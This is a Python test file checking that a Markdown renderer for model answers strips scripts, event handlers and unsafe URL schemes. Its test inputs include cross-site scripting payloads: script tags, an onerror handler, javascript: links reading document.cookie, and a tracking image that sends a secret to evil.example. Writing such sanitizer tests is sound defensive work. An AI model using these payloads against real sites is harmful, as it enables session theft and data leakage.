"""Answers are model output, so their Markdown is rendered inert: no script can run."""

from __future__ import annotations

from bs4 import BeautifulSoup

from apps.inference.rendering import render_markdown

SAFE_SCHEMES = ("http:", "https:", "mailto:", "/", "#")


def assert_inert(html: str) -> BeautifulSoup:
    """What a browser would build from the HTML: no script, handler, or script URL."""
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name not in ("script", "img", "iframe", "object", "embed", "style", "svg")
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on"), (tag.name, name)
            if name in ("href", "src", "action", "formaction"):
                assert str(value).strip().lower().startswith(SAFE_SCHEMES), (name, value)
    return soup


HOSTILE = """Here is the fix <script>alert('x')</script>

<img src=x onerror="alert(1)">

[click me](javascript:alert(document.cookie)) and [also](JaVaScRiPt:alert(1))
<a href="javascript:alert(2)" onclick="alert(3)">raw link</a>

![tracking](https://evil.example/pixel?c=secret)

[runbook](/search/?q=ceph) [vendor](https://docs.ceph.com/) [mail](mailto:sre@example.com)

```python
print("<b>not bold</b>")
```
"""


def test_hostile_markdown_renders_inert() -> None:
    html = render_markdown(HOSTILE)
    soup = assert_inert(html)
    # The text stays readable as text.
    assert "<script>alert('x')</script>" in soup.get_text()
    assert "&lt;script&gt;alert" in html
    # Safe links survive, with rel set.
    assert '<a href="/search/?q=ceph"' in html
    assert '<a href="https://docs.ceph.com/"' in html
    assert '<a href="mailto:sre@example.com"' in html
    assert "noopener" in html
    # Code is highlighted and escaped.
    assert '<span class="nb">print</span>' in html
    assert "&lt;b&gt;not bold&lt;/b&gt;" in html


def test_no_attribute_or_tag_outside_the_allowlist() -> None:
    html = render_markdown(
        '<div style="position:fixed" onmouseover="x()">a</div>\n\n'
        "| a |\n|---|\n| <iframe src=//evil> |\n\n"
        "[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:msgbox)"
    )
    soup = assert_inert(html)
    assert soup.find("div") is None and soup.find("a") is None
